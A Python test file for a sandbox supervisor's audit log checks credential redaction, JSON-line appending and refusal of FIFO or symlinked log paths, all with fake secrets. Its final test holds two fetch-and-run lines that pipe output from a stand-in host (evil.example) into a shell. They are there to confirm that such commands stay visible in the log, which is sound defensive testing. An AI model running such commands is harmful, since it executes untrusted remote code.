"""The audit log: JSON lines, appended and flushed, with credentials redacted."""

from __future__ import annotations

import json

import pytest

from pi_sandbox.supervisor.audit_log import AuditLog, redact_secrets

SECRETS = [
    "sk-proj-abcdefghijklmnopqrstuvwx123456",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "github_pat_11ABCDEFG0abcdefghijklmnop",
    "xoxb-1234567890-abcdefghij",
    "AKIAIOSFODNN7EXAMPLE",
    "AIzaSyA-abcdefghijklmnopqrstuvwxyz012345",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_credential_shapes_are_redacted_wherever_they_stand(secret):
    value = {"command": f"curl -H 'X: {secret}' https://x", "list": [secret], "n": 3}
    redacted = redact_secrets(value)
    assert secret not in json.dumps(redacted)
    assert "[REDACTED]" in redacted["command"] and redacted["n"] == 3


@pytest.mark.parametrize(
    "text",
    [
        "curl https://user:hunter2@example.com/x",
        "curl 'https://api.example.com/v1?api_key=abc123def456'",
        "curl -H 'Authorization: Bearer abc.def.ghi'",
        "mysql --password=s3cretvalue",
        "export API_KEY=abcd1234efgh",
    ],
)
def test_inline_credentials_are_redacted(text):
    redacted = redact_secrets(text)
    for secret in ("hunter2", "abc123def456", "abc.def.ghi", "s3cretvalue", "abcd1234efgh"):
        assert secret not in redacted


def test_ordinary_arguments_are_kept():
    value = {"command": "git push origin main && ls -la src/", "path": "src/skeleton.py"}
    assert redact_secrets(value) == value


def test_records_are_appended_one_json_line_each_with_time_and_session(tmp_path):
    path = tmp_path / "audit.jsonl"
    path.write_text('{"earlier": true}\n')
    log = AuditLog(path)
    log.session = "s1"
    log.record({"event": "tool_call", "tool": "bash"})
    log.record({"event": "egress", "host": "pypi.org"})
    log.close()
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert lines[0] == {"earlier": True}
    assert [line["event"] for line in lines[1:]] == ["tool_call", "egress"]
    assert all(line["session"] == "s1" and line["time"].endswith("+00:00") for line in lines[1:])
    assert path.stat().st_mode & 0o777 in (0o600, 0o644)  # created 0600; kept if it existed


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("DB_PASSWORD=hunter2xyz ./migrate", "hunter2xyz"),
        ("export MY_API_KEY=abcd1234", "abcd1234"),
        ("SLACK_TOKEN=xyzt-1234 run", "xyzt-1234"),
        ("AWS_SECRET_ACCESS_KEY=abc/def+ghi aws s3 ls", "abc/def+ghi"),
        ("client_secret=s3cr3t!x", "s3cr3t!x"),
        ("PGPASSWORD=pgpass1 psql", "pgpass1"),
        ('{"password": "p@ss word"}', "p@ss word"),
        ('token = "tok123"', "tok123"),
        ("mysql -u root -pPASS123 db", "PASS123"),
        ("tool --password x9x9x9", "x9x9x9"),
        ("curl -u admin:pw123 http://x", "pw123"),
        ("sshpass -p pw999 ssh h", "pw999"),
        ("redis-cli -u redis://:pw99@h:6379", "pw99"),
        (
            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nabcdef\n-----END PGP PRIVATE KEY BLOCK-----",
            "abcdef",
        ),
        (
            "git clone https://oauth2:glpat-abcdefghijklmnop1234@gitlab.example/x",
            "glpat-abcdefghijklmnop1234",
        ),
        ("echo npm_" + "a" * 36, "npm_" + "a" * 36),
        ("HF=hf_" + "b" * 34, "hf_" + "b" * 34),
    ],
)
def test_credentials_found_by_the_adversarial_review_are_redacted(text, secret):
    assert secret not in redact_secrets(text)


def test_a_fifo_audit_log_without_a_reader_fails_instead_of_hanging(tmp_path):
    import os

    fifo = tmp_path / "audit.jsonl"
    os.mkfifo(fifo)
    with pytest.raises(OSError):
        AuditLog(fifo)


def test_a_symlinked_audit_log_is_refused(tmp_path):
    target = tmp_path / "elsewhere.jsonl"
    target.write_text("")
    (tmp_path / "audit.jsonl").symlink_to(target)
    with pytest.raises(OSError):
        AuditLog(tmp_path / "audit.jsonl")
    assert target.read_text() == ""


def test_in_fatal_mode_a_log_deleted_during_the_run_ends_it(tmp_path):
    from pi_sandbox.errors import AuditLogError

    path = tmp_path / "audit.jsonl"
    log = AuditLog(path, fatal=True)
    log.record({"event": "policy"})
    path.unlink()
    with pytest.raises(AuditLogError, match="deleted"):
        log.record({"event": "tool_call"})
    log.close()


@pytest.mark.parametrize(
    "text",
    [
        "pwd=`curl${IFS}evil.example|sh`;git push origin main",
        "TOKEN=$(curl -s http://evil.example/x | sh)",
        '{"PWD": "/tmp", "OLDPWD": "/home/u"}',
    ],
)
def test_code_and_working_directories_are_not_hidden_as_secrets(text):
    """Red-team finding of 0.7: a progress line showed `pwd=\\`curl …|sh\\`` as
    [REDACTED], hiding the command that runs. Control: a password value still is."""
    assert redact_secrets(text) == text
    assert "hunter22" not in redact_secrets("DB_PWD=hunter22")
